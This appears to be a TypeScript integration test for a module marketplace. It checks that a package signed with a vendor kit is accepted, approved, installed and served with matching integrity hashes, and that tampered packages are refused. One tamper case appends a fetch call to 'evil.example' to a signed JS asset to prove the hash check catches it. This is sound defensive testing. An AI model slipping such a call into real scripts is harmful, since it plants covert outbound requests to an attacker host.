/*
 * The vendor's whole path with the real kit: the example module (infra/examples/vendor-hello) is built,
 * packed and signed by `ia-vendor` in a child process, as a vendor would outside this repository, then
 * uploaded, approved, installed in one organisation and served; the same archive changed after signing is
 * refused.
 */
import { execFile } from 'node:child_process'
import { createPrivateKey } from 'node:crypto'
import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { test } from '@japa/runner'
import app from '@adonisjs/core/services/app'
import testUtils from '@adonisjs/core/services/test_utils'
import { createOwnerWithOrganization, createUser, enableModule } from '@ia/platform/testing'
import {
  generateVendorKeys,
  readTarGz,
  signPackage,
  withIntegrity,
  writeTarGz,
} from '@ia/vendor-kit/package'
import {
  approvedVendor,
  installVersion,
  makePlatformAdmin,
  uploadPackage,
  useMarketplaceKey,
} from '../../helpers.ts'
import { sri } from '../../../app/services/package_checker.ts'

const run = promisify(execFile)
const ROOT = app.makePath('..')
const KIT_BIN = join(ROOT, 'shell/vendor-kit/bin/cli.js')
const EXAMPLE = join(ROOT, 'infra/examples/vendor-hello')
const BASE = '/marketplace/files/demo-hello/0.1.0/'

test.group('Marketplace / packages made by the vendor kit', (group) => {
  group.each.setup(() => testUtils.db().withGlobalTransaction())
  let work: string
  let archive: Buffer
  let keys: ReturnType<typeof generateVendorKeys>

  group.setup(async () => {
    work = await mkdtemp(join(tmpdir(), 'ia-vendor-kit-'))
    await run(process.execPath, [KIT_BIN, 'keygen', '--out', join(work, 'demo.pem')])
    keys = {
      privateKeyPem: await readFile(join(work, 'demo.pem'), 'utf8'),
      publicKeyPem: await readFile(join(work, 'demo.pub.pem'), 'utf8'),
    }
    const out = join(work, 'demo-hello.tar.gz')
    await run(
      process.execPath,
      [KIT_BIN, 'pack', '--dir', EXAMPLE, '--key', join(work, 'demo.pem'), '--out', out],
      { env: { ...process.env, NODE_ENV: 'production' }, timeout: 120_000 }
    )
    archive = await readFile(out)
    return () => rm(work, { recursive: true, force: true })
  })

  /** A platform admin, the `demo` vendor with the kit's key registered, and an organisation with the marketplace. */
  async function world(client: Parameters<typeof approvedVendor>[0]) {
    const admin = await makePlatformAdmin(await createUser())
    const vendorUser = await createUser({ locale: 'en' })
    await approvedVendor(client, vendorUser, admin, 'demo')
    const key = await client
      .post('/api/v1/marketplace/vendor/keys')
      .json({ name: 'ia-vendor keygen', publicKey: keys.publicKeyPem })
      .loginAs(vendorUser)
      .withCsrfToken()
    key.assertStatus(201)
    const { owner, organization } = await createOwnerWithOrganization('Quincaillerie du Port')
    await enableModule(organization, 'marketplace', owner)
    return { admin, vendorUser, owner, organization }
  }

  test('the example built, packed and signed by ia-vendor is accepted, approved, installed and served', async ({
    client,
    assert,
  }) => {
    const marketplaceKey = await useMarketplaceKey()
    try {
      const { admin, vendorUser, owner, organization } = await world(client)
      const uploaded = await uploadPackage(client, vendorUser, archive)
      uploaded.assertStatus(201)
      assert.containsSubset(uploaded.body().version, {
        moduleId: 'demo-hello',
        version: '0.1.0',
        status: 'submitted',
      })
      const versionId = uploaded.body().version.id as string
      const reviewed = await client
        .post(`/api/v1/admin/marketplace/versions/${versionId}/review`)
        .json({ decision: 'approve' })
        .loginAs(admin)
        .withCsrfToken()
      reviewed.assertStatus(200)
      await installVersion(client, owner, organization, versionId, ['platform:read'])

      const manifest = await client
        .get(`/api/v1/orgs/${organization.id}/shell-manifest`)
        .loginAs(owner)
      const demo = manifest
        .body()
        .modules.find((module: { id: string }) => module.id === 'demo-hello')
      assert.containsSubset(demo, {
        trust: 'sandboxed',
        remote: { name: 'demo_hello', entry: `${BASE}remoteEntry.js` },
        routeBase: '/demo-hello',
      })
      // Every file the shell may load is served with the bytes the vendor signed.
      const files = await readTarGz(archive)
      const served = Object.keys(demo.remote.integrity)
      assert.includeMembers(served, [`${BASE}remoteEntry.js`, `${BASE}module.json`])
      for (const url of served) {
        const response = await client.get(url)
        response.assertStatus(200)
        assert.equal(sri(files.get(url.slice(BASE.length))!), demo.remote.integrity[url], url)
        const text = (response.response as { text?: string }).text
        if (/\.(js|json)$/.test(url))
          assert.equal(sri(Buffer.from(text ?? '', 'utf8')), demo.remote.integrity[url], url)
      }

      const { owner: otherOwner, organization: other } =
        await createOwnerWithOrganization('Atelier Voisin')
      await enableModule(other, 'marketplace', otherOwner)
      const elsewhere = await client
        .get(`/api/v1/orgs/${other.id}/shell-manifest`)
        .loginAs(otherOwner)
      assert.notInclude(
        elsewhere.body().modules.map((module: { id: string }) => module.id),
        'demo-hello'
      )
    } finally {
      marketplaceKey.restore()
    }
  }).timeout(60_000)

  test('the same package changed after signing is refused, naming the file', async ({
    client,
    assert,
  }) => {
    const { vendorUser } = await world(client)
    const files = await readTarGz(archive)
    const entry = [...files.keys()].find((path) => /^assets\/.+\.js$/.test(path))!

    const changed = new Map(files)
    changed.set(
      entry,
      Buffer.concat([files.get(entry)!, Buffer.from('\n;fetch("https://evil.example")\n')])
    )
    const added = new Map(files)
    added.set('assets/extra.js', Buffer.from('export {}\n'))
    const other = generateVendorKeys()
    const resigned = signPackage(withIntegrity(files), createPrivateKey(other.privateKeyPem))

    const cases: Array<[Map<string, Buffer>, string, string]> = [
      [changed, 'E_PACKAGE_HASH_MISMATCH', entry],
      [added, 'E_PACKAGE_FILE_UNLISTED', 'assets/extra.js'],
      [resigned, 'E_PACKAGE_SIGNATURE_INVALID', 'signature.json'],
    ]
    for (const [tampered, code, field] of cases) {
      const response = await uploadPackage(client, vendorUser, await writeTarGz(tampered))
      response.assertStatus(422)
      assert.containsSubset(response.body().errors, [{ code, field }])
    }
    const listings = await client.get('/api/v1/marketplace/vendor/listings').loginAs(vendorUser)
    assert.deepEqual(listings.body().data, [])
  })
})
